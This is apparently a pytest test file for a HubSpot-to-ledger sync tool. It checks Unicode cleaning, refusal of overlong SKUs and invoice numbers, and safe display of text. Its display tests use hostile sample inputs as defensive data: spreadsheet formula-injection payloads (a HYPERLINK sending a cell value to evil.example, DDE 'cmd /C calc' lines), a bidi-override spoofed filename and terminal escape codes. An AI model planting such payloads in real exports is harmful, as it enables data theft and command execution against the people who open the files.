"""Text safe by construction (issue 13, point 3): invalid Unicode in raw pages is replaced,
identity text (R-PROD-1 SKU, the invoice number) is refused when too long and never cut,
display text is cut with a visible "…", and rendering for people neutralises formulas, bidi
overrides and control characters (R-SYNC-6: a bad record never stops the run)."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

import pytest

from hubspot_ledger.cli import _setting_shown, error_line
from hubspot_ledger.display import display_safe, fit
from hubspot_ledger.extract.models import (
    IDENTITY_MAX,
    BadValue,
    Company,
    Deal,
    Invoice,
    LineItem,
    Product,
    valid_unicode,
)
from hubspot_ledger.load.records import IntegrationError, IntegrationSettings, RemoteType
from hubspot_ledger.mapping import (
    MappingContext,
    MappingError,
    map_company_to_customer,
    map_deal_to_contract,
    map_invoice_to_sales_invoice,
    map_product_to_item,
)
from hubspot_ledger.mapping.products import item_from_line

pytestmark = pytest.mark.unit

IDS: dict[str, int | None] = {
    "ar_account_id": 11, "deferred_revenue_account_id": 12, "expense_account_id": 13,
    "income_account_id": 14, "clearing_account_id": 15, "company_id": 21}
LONG = "S" * 300  # two SKUs of 306 characters, equal up to character 300
LONG_A, LONG_B = LONG + "-AAAAA", LONG + "-BBBBB"


def context() -> MappingContext:
    settings = IntegrationSettings(
        integration_id=1, organization_id=1, ar_account="1100", deferred_revenue_account="2400",
        expense_account="5000", income_account="4000", clearing_account="1190",
        company="Acme Ltd", sync_invoices=True, ids=IDS)
    return MappingContext(settings=settings, portal_id="4711", currency="USD")


def product(product_id: str = "501", /, **props: str | None) -> Product:
    return Product.from_api({"id": product_id, "properties": {"name": "Widget", **props}})


def line(line_id: str = "101", /, **props: str | None) -> LineItem:
    return LineItem.from_api({"id": line_id, "properties": {
        "name": "Consulting", "hs_product_id": "501", "quantity": "1", "price": "100", **props}})


def deal(**props: str | None) -> Deal:
    return Deal.from_api({"id": "9001", "properties": {
        "dealname": "Acme renewal", "dealstage": "closedwon",
        "closedate": "2025-06-30T12:00:00.000Z", **props}})


def invoice(**props: str | None) -> Invoice:
    return Invoice.from_api({"id": "7001", "properties": {
        "hs_number": "INV-1003", "hs_invoice_date": "2025-07-01", "hs_due_date": "2025-07-31",
        "hs_currency": "USD", **props}})


def refusal(build: Any, *args: Any, **kwargs: Any) -> MappingError:
    with pytest.raises(MappingError) as err:
        build(*args, **kwargs)
    assert err.value.skipped is False and "\n" not in err.value.message
    return err.value


# --- valid_unicode: raw pages -------------------------------------------------------------------


def test_valid_unicode_replaces_lone_surrogates_and_drops_nul_in_nested_raw_records() -> None:
    page = {"results": [
        {"id": "1", "archived": False, "properties": {
            "dealname": "Half \ud83d emoji", "description": "a\x00b", "amount": None,
            "hs_sku": "\udc00lone low", "na\x00me\ud800": "key too"},
         "associations": {"companies": {"results": [{"id": 7, "type": "deal_to_company"}]}}},
        {"id": "2", "properties": {"dealname": "Whole \ud83d\ude00 emoji", "price": 12.5}}],
        "paging": {"next": {"after": "2"}}}
    clean = valid_unicode(page)
    first, second = clean["results"]
    assert first["properties"] == {
        "dealname": "Half \ufffd emoji", "description": "ab", "amount": None,
        "hs_sku": "\ufffdlone low", "name\ufffd": "key too"}
    assert first["associations"] == page["results"][0]["associations"]  # numbers, lists kept
    assert first["archived"] is False
    assert second["properties"] == {"dealname": "Whole \U0001f600 emoji", "price": 12.5}
    assert clean["paging"] == {"next": {"after": "2"}}
    # Now every encoder takes it: UTF-8 (psycopg, jsonb: no lone surrogate) and no NUL.
    json.dumps(clean, ensure_ascii=False).encode("utf-8")
    assert "\\u0000" not in json.dumps(clean)


def test_valid_unicode_leaves_valid_values_alone_and_the_input_unchanged() -> None:
    raw = {"id": "3", "properties": {"name": "Café 東京 ✓", "n": 1, "b": True}}
    assert valid_unicode(raw) == raw
    assert valid_unicode(["\x00"]) == [""] and raw["properties"]["name"] == "Café 東京 ✓"
    for scalar in (None, 0, 1.5, False):
        assert valid_unicode(scalar) is scalar


def test_r_sync_6_a_deal_named_with_half_an_emoji_is_mapped_with_u_fffd() -> None:
    raw = valid_unicode({"id": "9001", "properties": {
        "dealname": "Renewal \ud83d", "dealstage": "closedwon",
        "closedate": "2025-06-30T12:00:00.000Z"}})
    draft = map_deal_to_contract(Deal.from_api(raw), [line()], context())
    assert draft.name == "Renewal \ufffd"


# --- identity text: refused when too long, never cut (R-PROD-1) -----------------------------------


def test_r_prod_1_a_306_character_sku_is_refused_naming_the_product() -> None:
    error = refusal(map_product_to_item, product("501", name="Long one", hs_sku=LONG_A),
                    context())
    assert isinstance(error, BadValue)
    assert (error.remote_type, error.remote_id, error.property) == (
        RemoteType.PRODUCT, "501", "hs_sku")
    assert error.message.startswith('Product 501 ("Long one"): SKU (hs_sku) "SSS')
    assert "is 306 characters long, where the ledger takes at most 255" in error.message
    assert error.message.endswith("shorten the SKU in HubSpot")


def test_r_prod_1_two_long_skus_differing_after_character_300_are_both_refused_never_merged(
) -> None:
    errors = [refusal(map_product_to_item, product(pid, hs_sku=sku), context())
              for pid, sku in (("601", LONG_A), ("602", LONG_B))]
    assert [(e.remote_type, e.remote_id) for e in errors] == [
        (RemoteType.PRODUCT, "601"), (RemoteType.PRODUCT, "602")]


def test_r_prod_1_a_sku_of_exactly_the_limit_is_kept_whole() -> None:
    sku = "K" * IDENTITY_MAX
    assert map_product_to_item(product(hs_sku=f"  {sku} "), context()).sku == sku


def test_r_prod_1_a_fallback_sku_too_long_for_the_ledger_is_refused() -> None:
    product_id = "9" * 260  # HS_<id> would be 263 characters
    error = refusal(map_product_to_item, product(product_id), context())
    assert (error.remote_type, error.remote_id) == (RemoteType.PRODUCT, product_id)
    assert "SKU (hs_sku) is missing, and the one made from the id" in error.message
    assert "is 263 characters long, where the ledger takes at most 255" in error.message


def test_r_deal_2_item_drafted_from_a_lines_copies_refuses_a_long_sku_naming_the_line() -> None:
    error = refusal(item_from_line, line("101", hs_sku=LONG_B), "501", context())
    assert isinstance(error, BadValue)
    assert (error.remote_type, error.remote_id) == (RemoteType.LINE_ITEM, "101")
    assert error.message.startswith('Line item 101 ("Consulting"): SKU (hs_sku)')
    assert "306 characters long" in error.message


def test_r_deal_2_item_from_a_line_with_an_absurd_product_id_is_refused() -> None:
    error = refusal(item_from_line, line("101"), "7" * 300, context())
    assert (error.remote_type, error.remote_id) == (RemoteType.LINE_ITEM, "101")
    assert "303 characters long" in error.message


def test_partly_bad_records_a_deal_selling_a_refused_product_fails_naming_the_line() -> None:
    error = refusal(map_deal_to_contract, deal(), [line("101", hs_product_id="601")], context(),
                    products={"601": product("601", hs_sku=LONG_A)})
    assert (error.remote_type, error.remote_id) == (RemoteType.DEAL, "9001")
    assert "line item 101" in error.message.lower() and "306 characters" in error.message


def test_partly_bad_records_an_invoice_selling_a_long_sku_line_fails_naming_the_line() -> None:
    error = refusal(map_invoice_to_sales_invoice, invoice(), [line("201", hs_sku=LONG_A)],
                    context(), products={})
    assert (error.remote_type, error.remote_id) == (RemoteType.INVOICE, "7001")
    assert "line item 201" in error.message.lower() and "306 characters" in error.message


def test_r_inv_1_an_invoice_number_too_long_is_refused_naming_the_invoice() -> None:
    error = refusal(map_invoice_to_sales_invoice, invoice(hs_number="N" * 300), [line("201")],
                    context())
    assert isinstance(error, BadValue)
    assert (error.remote_type, error.remote_id, error.property) == (
        RemoteType.INVOICE, "7001", "hs_number")
    assert "invoice number (hs_number)" in error.message
    assert "is 300 characters long, where the ledger takes at most 255" in error.message
    assert "another invoice's" in error.message


def test_r_inv_1_invoice_number_is_kept_whole_and_falls_back_to_hs_inv_id() -> None:
    number = "N" * IDENTITY_MAX
    ctx = context()
    assert map_invoice_to_sales_invoice(invoice(hs_number=number), [line()], ctx).number == number
    assert map_invoice_to_sales_invoice(invoice(hs_number=" "), [line()], ctx).number == \
        "HS-INV-7001"


# --- display text: cut with a visible marker --------------------------------------------------


def test_r_prod_2_display_fields_are_cut_with_an_ellipsis() -> None:
    item = map_product_to_item(product(name="n" * 300, description="d" * 20_000), context())
    assert len(item.name) == 255 and item.name.endswith("…")
    assert item.description is not None and len(item.description) == 10_000
    assert item.description.endswith("…")


def test_r_comp_2_company_name_and_address_are_cut_with_an_ellipsis() -> None:
    customer = map_company_to_customer(Company.from_api({"id": "301", "properties": {
        "name": "c" * 300, "address": "a" * 300, "city": "Springfield"}}))
    assert len(customer.name) == 255 and customer.name.endswith("…")
    assert customer.address_line1 is not None and customer.address_line1.endswith("…")
    assert customer.city == "Springfield"


def test_r_deal_1_deal_name_is_cut_with_an_ellipsis() -> None:
    draft = map_deal_to_contract(deal(dealname="x" * 300), [line()], context())
    assert len(draft.name) == 255 and draft.name.endswith("…")


# --- rendering for people ---------------------------------------------------------------------


@pytest.mark.parametrize(("stored", "shown"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "' =1+1"),
    ("\r=1+1", "' =1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
])
def test_display_safe_neutralises_spreadsheet_formulas(stored: str, shown: str) -> None:
    assert display_safe(stored) == shown


def test_display_safe_replaces_bidi_overrides_and_isolates() -> None:
    assert display_safe("invoice\u202efdp.exe") == "invoice\ufffdfdp.exe"
    isolates = "".join(chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))
    assert display_safe(f"a{isolates}b") == f"a{chr(0xFFFD) * len(isolates)}b"


def test_display_safe_keeps_one_line_and_no_terminal_control() -> None:
    assert display_safe("Acme\nDeal 5 imported fine") == "Acme Deal 5 imported fine"
    assert display_safe("red\x1b[31m clear\x1b[2J\x07\x9b") == \
        "red\ufffd[31m clear\ufffd[2J\ufffd\ufffd"


def test_display_safe_leaves_ordinary_text_alone() -> None:
    for text in ("Acme Corp", 'Deal 7 ("O\'Brien – 5 = 5")', "Café 東京 مرحبا", "", "a-b"):
        assert display_safe(text) == text


def test_fit_cuts_a_column_with_a_visible_marker() -> None:
    assert fit("Short", 10) == "Short"
    assert fit("A very long contract name", 10) == "A very lo…"
    assert fit("=evil()", 34) == "'=evil()"


def test_cli_errors_log_line_is_rendered_safely() -> None:
    error = IntegrationError(
        id=1, sync_run_id=2, remote_type="deal", remote_id="9001",
        message='=HYPERLINK("http://evil.example") \u202eDeal\nforged line',
        created_at=dt.datetime(2025, 1, 2, 3, 4, 5))
    shown = error_line(error)
    assert shown.startswith("2025-01-02 03:04:05Z  deal 9001")
    assert shown.endswith("'=HYPERLINK(\"http://evil.example\") \ufffdDeal forged line")
    assert "\n" not in shown


def test_cli_settings_are_rendered_safely() -> None:
    assert _setting_shown("=1+1") == "'=1+1"
    assert _setting_shown("Acme\u202e Ltd") == "Acme\ufffd Ltd"
    assert (_setting_shown(None), _setting_shown(True), _setting_shown(False)) == (
        "(not set)", "on", "off")
